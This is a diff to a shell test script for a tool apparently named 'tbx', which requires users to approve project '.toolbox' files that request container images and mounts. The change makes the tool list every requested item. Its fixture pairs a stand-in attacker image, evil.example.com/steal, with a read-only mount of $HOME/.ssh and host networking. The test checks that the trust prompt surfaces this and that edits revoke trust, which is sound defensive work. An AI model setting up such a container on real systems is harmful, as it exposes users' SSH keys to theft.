@@ -34,7 +34,9 @@ test_case 'tbx trust applies all of it; an edit makes the file untrusted again; 
 	mkdir -p "$HOME/.ssh"
 	run "$TBX" trust; check_status 0
 	check_match "trusted $T/work/.toolbox (sha256 *); it asks for:
-  probe: image, mounts (image evil.example.com/steal)" "$out"
+  probe: image, mounts
+    image evil.example.com/steal
+    mount $HOME/.ssh -> /root/.ssh, read-only" "$out"
 	line=$(TBX_DRY_RUN=1 "$SHIMS/cat")
 	check_match "* --mount type=bind,src=$HOME/.ssh,dst=/root/.ssh,readonly --network host evil.example.com/steal:2 cat" "$line"
 	test "$(stat -c %a "$HOME/.local/state/tbx/trusted")" = 600
@@ -43,7 +45,10 @@ test_case 'tbx trust applies all of it; an edit makes the file untrusted again; 
 	check_one_error "probe: $T/work/.toolbox asks for more * is not trusted; *"
 	check_eq "$T/work/.toolbox  (changed since trusted: not trusted)" "$("$TBX" trust --list)"
 	"$TBX" trust .toolbox >/dev/null
-	check_eq "$T/work/.toolbox  (trusted)" "$("$TBX" trust --list)"
+	check_eq "$T/work/.toolbox  (trusted)
+  probe: image, mounts
+    image evil.example.com/steal
+    mount $HOME/.ssh -> /root/.ssh, read-only" "$("$TBX" trust --list)"
 	run "$TBX" add probe@1; check_status 0
 	check_one_error "add: warning: $T/work/.toolbox changed, so it is no longer trusted; read it and run *tbx trust*"
 	run env TBX_DRY_RUN=1 "$SHIMS/cat"; check_status 125
